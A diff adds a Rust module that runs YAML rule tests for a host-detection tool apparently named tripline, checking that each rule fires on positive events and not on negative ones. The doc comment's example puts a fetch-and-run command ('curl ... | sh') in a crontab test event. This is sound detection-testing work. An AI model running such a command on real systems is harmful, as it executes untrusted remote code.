@@ -1,0 +1,386 @@
+//! Rule tests: `rules/tests/<rule name>.yml` holds events that must fire the rule
+//! (`positive`) and events that must not (`negative`).
+//!
+//! Every rule must have a test file with at least one of each: a rule without a positive
+//! test may never fire, and one without a negative test may fire on everything.
+//!
+//! ```yaml
+//! config:                      # optional tripline.toml keys for this file
+//!   office_networks: [10.0.0.0/8]
+//! positive:
+//!   - name: pack/tripline-linux/crontab     # pack and query parsed from the name
+//!     columns: {command: "curl -s http://x.sh | sh"}
+//! negative:
+//!   - query: crontab
+//!     columns: {command: "/usr/sbin/logrotate"}
+//!     derived: {stale: true}   # only stale/initial can be forced
+//! ```
+//!
+//! Each file runs with the default settings plus its own `config:`, never the user's
+//! `tripline.toml`, so tests mean the same on every machine.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::path::Path;
+use std::sync::Arc;
+
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value};
+
+use crate::config::Config;
+use crate::derive::derive;
+use crate::event::{Action, Event, Kind, SourceRef};
+use crate::mapping::Mapper;
+use crate::rules::detector::{Detector, Outcome};
+use crate::rules::{builtin, LoadError, RuleSet};
+
+/// Default event time for test events: fixed, so windows and ids are reproducible.
+pub const DEFAULT_TEST_TIME: i64 = 1_704_067_200; // 2024-01-01T00:00:00Z
+/// Default host for test events.
+pub const DEFAULT_TEST_HOST: &str = "test-host";
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawTestFile {
+    /// Accepted so test files can document themselves; not used.
+    #[serde(default)]
+    #[allow(dead_code)]
+    description: Option<String>,
+    #[serde(default)]
+    config: Option<Value>,
+    #[serde(default)]
+    positive: Vec<TestEvent>,
+    #[serde(default)]
+    negative: Vec<TestEvent>,
+}
+
+/// A partial event; unset fields take test defaults.
+#[derive(Debug, Clone, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct TestEvent {
+    /// Free text shown in failure messages.
+    #[serde(default)]
+    pub description: Option<String>,
+    pub name: Option<String>,
+    pub pack: Option<String>,
+    pub query: Option<String>,
+    pub host: Option<String>,
+    /// `added` (default), `removed` or `snapshot`.
+    pub action: Option<String>,
+    #[serde(default)]
+    pub columns: Map<String, Value>,
+    #[serde(default)]
+    pub decorations: Map<String, Value>,
+    /// Defaults to 1 (not a first run).
+    pub counter: Option<i64>,
+    /// RFC 3339 or unix seconds; defaults to [`DEFAULT_TEST_TIME`].
+    pub time: Option<Value>,
+    pub derived: Option<DerivedOverride>,
+}
+
+/// The derived fields a test may force, for rows whose real trigger (old timestamps,
+/// counter 0) is awkward to write.
+#[derive(Debug, Clone, Copy, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct DerivedOverride {
+    pub stale: Option<bool>,
+    pub initial: Option<bool>,
+}
+
+impl TestEvent {
+    /// Builds the full event (pack/query from `name` when not given).
+    pub fn to_event(&self, label: &str) -> Result<Event, String> {
+        let (name, pack, query) = match (&self.name, &self.pack, &self.query) {
+            (Some(n), p, q) => {
+                let (pp, pq) = crate::query_name::parse(n);
+                (
+                    Some(n.clone()),
+                    p.clone().or(pp.map(str::to_string)),
+                    q.clone().or(Some(pq.to_string())),
+                )
+            }
+            (None, p, Some(q)) => {
+                let name = match p {
+                    Some(p) => format!("pack/{p}/{q}"),
+                    None => q.clone(),
+                };
+                (Some(name), p.clone(), Some(q.clone()))
+            }
+            (None, _, None) => return Err("needs `name` or `query`".into()),
+        };
+        let action = match self.action.as_deref() {
+            None => Action::Added,
+            Some(a) => Action::parse(a)
+                .ok_or_else(|| format!("action {a:?} is not added, removed or snapshot"))?,
+        };
+        let unix_time = match &self.time {
+            None => DEFAULT_TEST_TIME,
+            Some(Value::Number(n)) => n
+                .as_i64()
+                .ok_or_else(|| format!("time {n} is not whole unix seconds"))?,
+            Some(Value::String(s)) => crate::derive::parse_rfc3339(s)
+                .or_else(|| s.parse().ok())
+                .ok_or_else(|| format!("time {s:?} is neither RFC 3339 nor unix seconds"))?,
+            Some(other) => {
+                return Err(format!("time {other} is neither RFC 3339 nor unix seconds"))
+            }
+        };
+        Ok(Event {
+            kind: Kind::Result,
+            name,
+            pack,
+            query,
+            host: Some(
+                self.host
+                    .clone()
+                    .unwrap_or_else(|| DEFAULT_TEST_HOST.to_string()),
+            ),
+            action: Some(action),
+            indicators: crate::indicators::extract(&self.columns),
+            columns: self.columns.clone(),
+            decorations: self.decorations.clone(),
+            time: Some(crate::alert::rfc3339(unix_time)),
+            unix_time: Some(unix_time),
+            epoch: Some(0),
+            counter: Some(self.counter.unwrap_or(1)),
+            numerics: false,
+            severity: None,
+            filename: None,
+            line: None,
+            message: None,
+            version: None,
+            source: SourceRef {
+                path: Some(label.to_string()),
+                ..SourceRef::default()
+            },
+            id: label.to_string(),
+            attack: Vec::new(),
+        })
+    }
+
+    fn summary(&self) -> String {
+        if let Some(d) = &self.description {
+            return d.clone();
+        }
+        let q = self
+            .query
+            .as_deref()
+            .or(self.name.as_deref())
+            .unwrap_or("?");
+        let cols = serde_json::to_string(&self.columns).unwrap_or_default();
+        let mut s = format!("{q} {cols}");
+        if s.chars().count() > 120 {
+            s = s.chars().take(119).collect::<String>() + "…";
+        }
+        s
+    }
+}
+
+/// The result for one rule.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
+pub struct RuleTestResult {
+    pub rule: String,
+    /// The test file, if there is one.
+    pub file: Option<String>,
+    pub positives: usize,
+    pub negatives: usize,
+    pub failures: Vec<String>,
+}
+
+impl RuleTestResult {
+    pub fn passed(&self) -> bool {
+        self.failures.is_empty()
+    }
+}
+
+/// Results for a whole rule set.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+pub struct TestReport {
+    /// One entry per rule, in rule-name order.
+    pub rules: Vec<RuleTestResult>,
+    /// Problems not attributable to a loaded rule (test files for unknown rules, unreadable
+    /// test files).
+    pub orphans: Vec<String>,
+}
+
+impl TestReport {
+    pub fn passed(&self) -> bool {
+        self.orphans.is_empty() && self.rules.iter().all(RuleTestResult::passed)
+    }
+
+    pub fn failed_rules(&self) -> usize {
+        self.rules.iter().filter(|r| !r.passed()).count()
+    }
+}
+
+/// The built-in test files (`rules/tests/`), embedded at build time.
+pub fn builtin_sources() -> Vec<(String, String)> {
+    builtin::RULE_TESTS
+        .iter()
+        .map(|(n, t)| (n.to_string(), t.to_string()))
+        .collect()
+}
+
+/// Reads every `*.yml`/`*.yaml` file directly in `dir`.
+pub fn read_dir(dir: impl AsRef<Path>) -> Result<Vec<(String, String)>, LoadError> {
+    let dir = dir.as_ref();
+    let io = |source| LoadError::Io {
+        path: dir.display().to_string(),
+        source,
+    };
+    let mut files = Vec::new();
+    for entry in std::fs::read_dir(dir).map_err(io)? {
+        let path = entry.map_err(io)?.path();
+        let is_yaml = matches!(
+            path.extension().and_then(|e| e.to_str()),
+            Some("yml" | "yaml")
+        );
+        if path.is_file() && is_yaml {
+            files.push(path);
+        }
+    }
+    files.sort();
+    let mut out = Vec::new();
+    for path in files {
+        let text = std::fs::read_to_string(&path).map_err(|source| LoadError::Io {
+            path: path.display().to_string(),
+            source,
+        })?;
+        out.push((path.display().to_string(), text));
+    }
+    Ok(out)
+}
+
+/// Runs the test files `(file label, YAML)` against the rule set. A file belongs to the rule
+/// named by its file stem.
+pub fn run(
+    rules: &Arc<RuleSet>,
+    mapper: Option<Arc<Mapper>>,
+    files: &[(String, String)],
+) -> TestReport {
+    let mut by_rule: BTreeMap<String, RuleTestResult> = rules
+        .rules()
+        .iter()
+        .map(|r| {
+            (
+                r.name.clone(),
+                RuleTestResult {
+                    rule: r.name.clone(),
+                    file: None,
+                    positives: 0,
+                    negatives: 0,
+                    failures: Vec::new(),
+                },
+            )
+        })
+        .collect();
+    let mut orphans = Vec::new();
+    let mut seen = BTreeSet::new();
+
+    for (label, text) in files {
+        let stem = Path::new(label)
+            .file_stem()
+            .and_then(|s| s.to_str())
+            .unwrap_or_default()
+            .to_string();
+        let Some(result) = by_rule.get_mut(&stem) else {
+            orphans.push(format!("{label}: no rule named {stem:?}"));
+            continue;
+        };
+        if !seen.insert(stem.clone()) {
+            result
+                .failures
+                .push(format!("{label}: a second test file for this rule"));
+            continue;
+        }
+        result.file = Some(label.clone());
+        let raw: RawTestFile = match yaml_serde::from_str(text) {
+            Ok(r) => r,
+            Err(e) => {
+                result
+                    .failures
+                    .push(format!("{label}: invalid test file: {e}"));
+                continue;
+            }
+        };
+        let config = match &raw.config {
+            None => Config::default(),
+            Some(v) => match Config::from_json_value(v) {
+                Ok(c) => c,
+                Err(e) => {
+                    result.failures.push(format!("{label}: config: {e}"));
+                    continue;
+                }
+            },
+        };
+        result.positives = raw.positive.len();
+        result.negatives = raw.negative.len();
+        if raw.positive.is_empty() {
+            result
+                .failures
+                .push(format!("{label}: no positive events (need at least one)"));
+        }
+        if raw.negative.is_empty() {
+            result
+                .failures
+                .push(format!("{label}: no negative events (need at least one)"));
+        }
+        let mut detector = Detector::new(Arc::clone(rules), mapper.clone(), config);
+        for (kind, events, want) in [
+            ("positive", &raw.positive, true),
+            ("negative", &raw.negative, false),
+        ] {
+            for (i, te) in events.iter().enumerate() {
+                let id = format!("{label}#{kind}[{i}]");
+                let what = format!("{kind} #{} ({})", i + 1, te.summary());
+                let mut event = match te.to_event(&id) {
+                    Ok(e) => e,
+                    Err(m) => {
+                        result.failures.push(format!("{what}: {m}"));
+                        continue;
+                    }
+                };
+                detector.annotate(&mut event);
+                let mut derived = derive(&event, detector.config());
+                if let Some(o) = te.derived {
+                    derived.stale = o.stale.unwrap_or(derived.stale);
+                    derived.initial = o.initial.unwrap_or(derived.initial);
+                }
+                let outcome = detector
+                    .observe_derived(event, derived)
+                    .into_iter()
+                    .find(|o| o.rule == stem)
+                    .map(|o| o.outcome);
+                match (want, outcome) {
+                    (true, Some(Outcome::Counted)) | (false, None) => {}
+                    (true, None) => result.failures.push(format!("{what}: did not match")),
+                    (true, Some(Outcome::SuppressedStale)) => result.failures.push(format!(
+                        "{what}: matched but was suppressed as a stale history row \
+                         (set `tripline.stale: true` or give the row a recent time)"
+                    )),
+                    (true, Some(Outcome::SuppressedInitial)) => result.failures.push(format!(
+                        "{what}: matched but was suppressed as a first-run row (counter 0)"
+                    )),
+                    (true, Some(Outcome::Error(m))) => {
+                        result.failures.push(format!("{what}: matched but {m}"))
+                    }
+                    // A suppressed or failed match on a negative still means "does not fire".
+                    (false, Some(Outcome::Counted)) => {
+                        result.failures.push(format!("{what}: fired but must not"))
+                    }
+                    (false, Some(_)) => {}
+                }
+            }
+        }
+    }
+    for result in by_rule.values_mut() {
+        if result.file.is_none() {
+            result
+                .failures
+                .push(format!("no test file (expected tests/{}.yml)", result.rule));
+        }
+    }
+    TestReport {
+        rules: by_rule.into_values().collect(),
+        orphans,
+    }
+}
